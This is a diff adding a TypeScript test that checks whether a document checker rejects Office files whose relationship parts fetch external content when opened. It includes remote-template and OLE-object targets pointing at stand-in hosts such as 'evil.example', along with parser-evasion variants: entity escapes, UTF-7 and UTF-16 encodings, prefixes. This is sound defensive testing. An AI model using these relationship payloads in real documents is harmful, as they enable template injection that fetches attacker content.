@@ -62,6 +62,44 @@ test('checks embedded documents like the outer one and rejects a second level', 
   for (const [name, content, expected] of cases) expect([name, await typeOf(content)]).toEqual([name, expected])
 })
 
+const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="rId1" Type="${type}" Target="${target}"${mode}/></Relationships>`
+const withPartList = (text: string | Buffer, name = 'word/_rels/settings.xml.rels') => officeOf('docx', [entry(name, text)])
+
+test('rejects parts that Office fetches when the document is opened', async () => {
+  const template = relation(`${office}/attachedTemplate`, 'https://evil.example/t.dotm')
+  const cases: [string, Buffer, string][] = [
+    ['a hyperlink', withPartList(relation(`${office}/hyperlink`, 'https://example.com/a?b>c')), 'wordprocessingml'],
+    ['parts of its own', withPartList(relation(`${office}/image`, 'media/image1.png', '')), 'wordprocessingml'],
+    ['a template', withPartList(template), 'document_unsupported'],
+    ['a template in an embedded document', embedIn(book(entry('xl/_rels/a.xml.rels', template))), 'document_unsupported'],
+    ...['oleObject', 'frame', 'subDocument', 'externalLinkPath', 'image'].map((type): [string, Buffer, string] => [
+      type,
+      withPartList(relation(`${office}/${type}`, 'file://evil/x')),
+      'document_unsupported',
+    ]),
+    [
+      'a workbook that is missing',
+      withPartList(relation('http://schemas.microsoft.com/office/2006/relationships/xlExternalLinkPath/xlPathMissing', 'x')),
+      'document_unsupported',
+    ],
+    [
+      'another prefix and quotes',
+      withPartList(template.replace('<Relationship ', '<r:Relationship ').replace('"External"', "'External'")),
+      'document_unsupported',
+    ],
+    ['a bracket before it', withPartList(template.replace('t.dotm', '?a>b')), 'document_unsupported'],
+    ['an escaped value', withPartList(template.replace('External', '&#x45;xternal')), 'document_unsupported'],
+    ['an own entity', withPartList(`<!DOCTYPE a [<!ENTITY e "External">]>${template.replace('External', '&e;')}`), 'document_unsupported'],
+    ['another encoding', withPartList(Buffer.from(template, 'utf16le')), 'document_unsupported'],
+    ['a declared encoding', withPartList(template.replace('UTF-8', 'UTF-7')), 'document_unsupported'],
+    ['another case of the name', withPartList(template, 'word/_rels/settings.xml.RELS'), 'document_unsupported'],
+    ['more than 10 MB', withPartList(relation(`${office}/hyperlink`, 'a'.repeat(11_000_000))), 'document_unsupported'],
+  ]
+  for (const [name, content, expected] of cases) expect([name, await typeOf(content)]).toEqual([name, expected])
+})
+
 test('limits apply to the document and its embedded documents together', async () => {
   const parts = (count: number) => Array.from({ length: count }, (_, at) => entry(`xl/${at}`, 'x'))
   const manyEntries = embedIn(book(...parts(1_400)))
